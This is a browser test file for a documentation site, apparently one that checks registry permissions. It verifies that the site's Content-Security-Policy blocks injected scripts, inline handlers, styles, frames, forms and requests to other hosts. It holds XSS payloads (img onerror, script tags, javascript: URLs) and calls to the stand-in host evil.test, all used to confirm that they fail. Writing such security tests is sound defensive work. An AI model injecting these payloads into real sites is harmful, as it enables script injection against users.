import { readdirSync, readFileSync } from 'node:fs';
import { dirname } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { serveFolder } from '../support/static-server.ts';
import { CHECKLIST, enterSandbox, launch, noBrowser, visit } from './visit.ts';

const DIST = inject('dist');
const html = readdirSync(DIST, { recursive: true, encoding: 'utf8' })
  .filter((name) => name.endsWith('.html'))
  .sort();

/** `guides/x/index.html` → `/guides/x/` */
const pathOf = (file: string) => `/${file.replace(/(?:^|(?<=\/))index\.html$/, '')}`;

/** One page of each kind: those of one folder are alike. */
const kinds = [...new Map(html.map((file) => [dirname(dirname(file)), pathOf(file)])).values()];
/** Every page on its own level, and one of each folder. */
const pages = [...new Set([...html.filter((file) => file.split('/').length < 3).map(pathOf), ...kinds])];
/** Pages that have a part of ours. */
const withParts = html.filter((file) => /<gonogo-(?!row)/.test(readFileSync(`${DIST}/${file}`, 'utf8'))).map(pathOf);

const MARKUP = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';
const SCRIPT = 'javascript:window.ran=1';

const ran = (page: Page) => page.evaluate(() => 'ran' in window);

describe.skipIf(noBrowser)('the policy, in a browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  test('there is a page of each kind to look at', () => {
    expect(pages).toEqual(expect.arrayContaining(['/', CHECKLIST, '/verify/', '/diagnose/', '/404.html']));
    for (const folder of ['checks', 'failures', 'guides', 'reference/findings'])
      expect(pages.filter((path) => path.startsWith(`/${folder}/`)).length, folder).toBeGreaterThan(0);
  });

  test.each(pages)('%s: reading and searching violates nothing, and asks no other host', async (path) => {
    const { page, problems, foreign, context } = await visit(browser, { path });
    await page.locator('button[data-open-modal]').click();
    await page.locator('dialog input').fill('secret');
    await page.locator('.pagefind-ui__result').first().waitFor();
    await page.keyboard.press('Escape');
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    expect(problems).toEqual([]);
    expect(foreign).toEqual([]);
    await context.close();
  });

  test('what is not on the list is blocked: scripts, handlers, styles, frames, forms, other hosts', async () => {
    const { page, problems, context } = await visit(browser, { path: '/' });
    await page.evaluate((markup) => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = 1';
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.test/x.js';
      const place = document.createElement('div');
      place.innerHTML = `${markup}<b style="color: red">x</b><style>b { color: red }</style><iframe src="/"></iframe>
        <form action="https://evil.test/"><input name="a"></form><base href="https://evil.test/">`;
      document.body.append(script, foreign, place);
      place.querySelector('form')?.submit();
      return fetch('https://evil.test/').catch(() => undefined);
    }, MARKUP);
    // Form and frame are reported a moment later.
    const blocked = () => [...new Set(problems.flatMap((text) => /^CSP: (\S+)/.exec(text)?.[1] ?? []))].sort();
    await expect
      .poll(blocked)
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-attr',
        'style-src-elem',
      ]);
    expect(await ran(page)).toBe(false);
    expect(new URL(page.url()).hostname).toBe(new URL(inject('site')).hostname);
    await context.close();
  });

  // Starlight's search needs such assignments, so the site itself cannot forbid them. Ours does without, but for its worker's own address.
  test.each(withParts)('%s: our part never makes markup or scripts from text', async (path) => {
    const { page, problems, context } = await visit(browser, { path: '/404.html' });
    await context.route(`${inject('site')}${path}`, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers(), 'content-security-policy': "require-trusted-types-for 'script'" };
      await route.fulfill({ response, headers });
    });
    await page.addInitScript(() => {
      type Types = { createPolicy: (name: string, rules: object) => { createScriptURL: (url: string) => string } };
      const { trustedTypes } = globalThis as unknown as { trustedTypes: Types };
      const createScriptURL = (url: string) =>
        new URL(url, location.href).origin === location.origin ? url : 'about:blank';
      const policy = trustedTypes.createPolicy('worker', { createScriptURL });
      const Real = globalThis.Worker;
      globalThis.Worker = class extends Real {
        constructor(url: string | URL, options?: WorkerOptions) {
          super(policy.createScriptURL(String(url)), options);
        }
      };
    });
    await page.goto(`${inject('site')}${path}`);
    await page.waitForLoadState('networkidle');
    const log = page.locator('gonogo-diagnose textarea');
    if (await log.isVisible()) {
      await log.fill('denied: permission_denied: write_package\nError: Process completed with exit code 1.');
      await page.locator('.gonogo-causes').waitFor();
    } else {
      const start = page.locator('[data-preset=stuck]');
      if (await start.count()) await start.click();
      else await enterSandbox(page, 'stuck');
      const all = page.getByRole('button', { name: 'Verify all' });
      if (await all.isVisible()) await all.click();
      await page.locator('gonogo-row .gonogo-badge:enabled').first().waitFor();
    }
    expect(problems).toEqual([]);
    await context.close();
  });
});

describe.skipIf(noBrowser)('the address and other pages', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  test.each(pages.filter((path) => path !== '/404.html'))(
    '%s: nothing in an address runs or starts a run',
    async (path) => {
      const query = ['repo', 'q', 'query', 'sandbox', 'preset', 'token', 'row', 'url', 'redirect']
        .map((name, index) => `${name}=${encodeURIComponent(index % 2 ? SCRIPT : MARKUP)}`)
        .join('&');
      const { page, problems, foreign, context } = await visit(browser, {
        path: `${path}?${query}#${encodeURIComponent(MARKUP)}`,
      });
      await page.waitForLoadState('networkidle');
      await page.evaluate((text) => {
        location.hash = text;
      }, SCRIPT);
      expect(await ran(page)).toBe(false);
      expect(await page.locator('main :is(img[onerror], a[href^="javascript:"])').count()).toBe(0);
      expect(problems).toEqual([]);
      expect(foreign).toEqual([]);
      await context.close();
    },
  );

  test.each(withParts)('%s: a repository in the address fills a field, and nothing is sent', async (path) => {
    const { page, foreign, context } = await visit(browser, { path: `${path}?repo=octo-org/shop#secret-ghcr-token` });
    await page.waitForLoadState('networkidle');
    expect(foreign).toEqual([]);
    await context.close();
  });

  test.each(withParts)('%s: inside a frame there is no field for a token', async (path) => {
    const frame = await serveFolder('/nowhere', '', {
      '/index.html': `<!doctype html><title>frame</title><iframe width="900" height="900" src="${inject('site')}${path}"></iframe>`,
    });
    const { page, context } = await visit(browser, { path: `${frame.url}/` });
    const inner = page.frameLocator('iframe');
    await inner.locator('main').waitFor();
    await page.waitForLoadState('networkidle');
    const board = await inner.locator('gonogo-board, gonogo-verify').count();
    for (const summary of await inner.locator('gonogo-board summary, gonogo-verify summary').all())
      if (await summary.isVisible()) await summary.click();
    if (board > 0 && (await inner.locator('details').filter({ hasText: /token/i }).first().isVisible()))
      await inner.getByText('takes no token').waitFor();
    await page.waitForLoadState('networkidle');
    expect(await inner.locator('input[type=password]').count()).toBe(0);
    await context.close();
    await frame.close();
  });
});
